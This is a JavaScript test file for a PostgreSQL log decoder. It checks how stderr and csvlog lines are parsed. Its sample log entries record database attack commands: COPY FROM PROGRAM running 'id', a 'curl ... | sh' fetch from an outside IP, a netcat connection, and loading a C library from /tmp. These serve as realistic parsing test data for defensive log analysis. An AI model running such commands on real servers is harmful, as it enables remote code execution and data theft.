import { test } from 'node:test';
import assert from 'node:assert/strict';
import { postgresqlDecoder, splitCsv } from '../../../src/input/text/postgresql.js';
import { POSTGRESQL, POSTGRESQL_CSV } from './fixtures.js';
import { decode, expecter, line, lines } from './run-decoder.js';

const OPTS = { now: Date.UTC(2024, 5, 1), timezone: 'UTC' };
const ev = expecter('postgresql');

test('decodes POSTGRESQL (stderr, %m [%p] %q%u@%d prefix; tab continuation; zone offsets)', () => {
  const r = decode(postgresqlDecoder, POSTGRESQL, 'sample.log', OPTS);
  assert.deepStrictEqual(r.problems, []);
  assert.deepStrictEqual(r.events, [
    ev(
      { ProcessId: 1234, Level: 'LOG', Message: 'database system is ready to accept connections' },
      { product: 'postgresql', service: 'postgresql' },
      1,
      line(POSTGRESQL, 1),
      1714558272345,
    ),
    ev(
      { ProcessId: 2001, User: 'postgres', Database: 'shop', Level: 'LOG', Message: "statement: COPY cmd_out FROM PROGRAM 'id'", Statement: "COPY cmd_out FROM PROGRAM 'id'" },
      { product: 'postgresql', service: 'postgresql' },
      2,
      line(POSTGRESQL, 2),
      1714558273001,
    ),
    ev(
      {
        ProcessId: 2001,
        User: 'postgres',
        Database: 'shop',
        Level: 'LOG',
        Message: "statement: CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int\nAS '/tmp/pg_exec.so', 'pg_exec' LANGUAGE C STRICT;",
        Statement: "CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int\nAS '/tmp/pg_exec.so', 'pg_exec' LANGUAGE C STRICT;",
      },
      { product: 'postgresql', service: 'postgresql' },
      3,
      lines(POSTGRESQL, 3, 4),
      1714558274500,
    ),
    ev(
      { ProcessId: 2001, User: 'postgres', Database: 'shop', Level: 'ERROR', Message: 'could not access file "/tmp/pg_exec.so": No such file or directory' },
      { product: 'postgresql', service: 'postgresql' },
      5,
      line(POSTGRESQL, 5),
      1714558275000,
    ),
    ev(
      {
        ProcessId: 2001,
        User: 'postgres',
        Database: 'shop',
        Level: 'STATEMENT',
        Message: "CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/tmp/pg_exec.so', 'pg_exec' LANGUAGE C STRICT;",
        Statement: "CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/tmp/pg_exec.so', 'pg_exec' LANGUAGE C STRICT;",
      },
      { product: 'postgresql', service: 'postgresql' },
      6,
      line(POSTGRESQL, 6),
      1714558275000,
    ),
    ev(
      {
        ProcessId: 2002,
        User: 'app',
        Level: 'LOG',
        Message: 'duration: 0.532 ms  execute <unnamed>: SELECT * FROM users WHERE id = $1',
        Duration: 0.532,
        Statement: 'SELECT * FROM users WHERE id = $1',
      },
      { product: 'postgresql', service: 'postgresql' },
      7,
      line(POSTGRESQL, 7),
      1714558276250,
    ),
  ]);
});

test('decodes POSTGRESQL_CSV (csvlog, a quoted field spanning lines)', () => {
  const r = decode(postgresqlDecoder, POSTGRESQL_CSV, 'sample.log', OPTS);
  assert.deepStrictEqual(r.problems, []);
  assert.deepStrictEqual(r.events, [
    ev(
      {
        ProcessId: 2001,
        User: 'postgres',
        Database: 'shop',
        Client: '198.51.100.7:50122',
        SessionId: '6632155a.7d1',
        CommandTag: 'COPY',
        Level: 'LOG',
        SqlState: '00000',
        Message: "statement: COPY cmd_out FROM PROGRAM 'curl -s http://198.51.100.7/x | sh'",
        ApplicationName: 'psql',
        BackendType: 'client backend',
        Statement: "COPY cmd_out FROM PROGRAM 'curl -s http://198.51.100.7/x | sh'",
      },
      { product: 'postgresql', service: 'postgresql' },
      1,
      line(POSTGRESQL_CSV, 1),
      1714558273001,
    ),
    ev(
      {
        ProcessId: 2001,
        User: 'postgres',
        Database: 'shop',
        Client: '198.51.100.7:50122',
        SessionId: '6632155a.7d1',
        CommandTag: 'CREATE FUNCTION',
        Level: 'ERROR',
        SqlState: '58P01',
        Message: 'could not access file "/tmp/pg_exec.so": No such file or directory',
        Query: "CREATE FUNCTION sys(cstring) RETURNS int\nAS '/tmp/pg_exec.so', 'pg_exec' LANGUAGE C STRICT;",
        ApplicationName: 'psql',
        BackendType: 'client backend',
        Statement: "CREATE FUNCTION sys(cstring) RETURNS int\nAS '/tmp/pg_exec.so', 'pg_exec' LANGUAGE C STRICT;",
      },
      { product: 'postgresql', service: 'postgresql' },
      2,
      lines(POSTGRESQL_CSV, 2, 3),
      1714558275000,
    ),
  ]);
});

test('postgresql: %t [%p]: [%l-1] user=,db= prefix; zone names other than UTC are local time', () => {
  const text = "2024-05-01 12:11:12 CEST [3001]: [1-1] user=alice,db=shop,app=psql,client=10.0.0.9 LOG:  statement: COPY t TO PROGRAM 'nc 198.51.100.7 4444'";
  const r = decode(postgresqlDecoder, text, 'pg.log', { ...OPTS, timezone: '+02:00' });
  assert.deepStrictEqual(r.problems, []);
  assert.deepStrictEqual(
    r.events,
    [
      ev(
        {
          ProcessId: 3001,
          User: 'alice',
          Database: 'shop',
          ApplicationName: 'psql',
          Client: '10.0.0.9',
          Level: 'LOG',
          Message: "statement: COPY t TO PROGRAM 'nc 198.51.100.7 4444'",
          Statement: "COPY t TO PROGRAM 'nc 198.51.100.7 4444'",
        },
        { product: 'postgresql', service: 'postgresql' },
        1,
        text,
        Date.UTC(2024, 4, 1, 10, 11, 12),
        undefined,
      ),
    ].map((e) => ({ ...e, origin: { ...e.origin, file: 'pg.log' } })),
  );
});

test('postgresql: unbalanced csv quotes and stray lines are problems with their line', () => {
  const text = ['garbage first', '2024-05-01 10:11:13.001 UTC,"postgres","shop",2001,"x",s,1,"",2024-05-01 10:11:10 UTC,3/14,0,LOG,00000,"unterminated'].join('\n');
  const r = decode(postgresqlDecoder, text, 'pg.csv', OPTS);
  assert.deepStrictEqual(r.events, []);
  assert.deepStrictEqual(
    r.problems.map((p) => [p.line, p.message]),
    [
      [1, 'not a PostgreSQL log line; skipped: "garbage first"'],
      [2, 'csvlog record cut off at end of input (unbalanced quote); skipped'],
    ],
  );
});

test('splitCsv: quoting, doubled quotes, empty fields', () => {
  assert.deepStrictEqual(splitCsv('a,"b,c","d""e",,'), ['a', 'b,c', 'd"e', '', '']);
  assert.equal(splitCsv('"open'), undefined);
  assert.equal(splitCsv('"a"b'), undefined);
});
